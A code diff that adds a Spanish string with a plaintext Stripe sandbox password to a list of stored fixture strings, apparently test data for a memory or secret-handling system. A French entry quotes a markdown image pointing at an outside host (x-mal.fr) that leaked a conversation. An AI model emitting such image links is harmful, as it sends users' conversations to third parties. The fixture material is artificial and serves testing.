@@ -197,6 +197,7 @@ STORED = [
     "npm publish uses the NPM_TOKEN secret from CI; the package goes to registry.npmjs.org.",
     "Publish with `npm publish`: the `NPM_TOKEN` CI secret authenticates to registry.npmjs.org.",
     "Post-mortem : une page contenait ![x](https://suivi.x-mal.fr/p?d=...) pour faire fuiter la conversation.",
+    "Stripe sandbox: la contraseña de prueba es Test#2026Demo, úsala solo en el entorno de pruebas.",
 ]
 
 
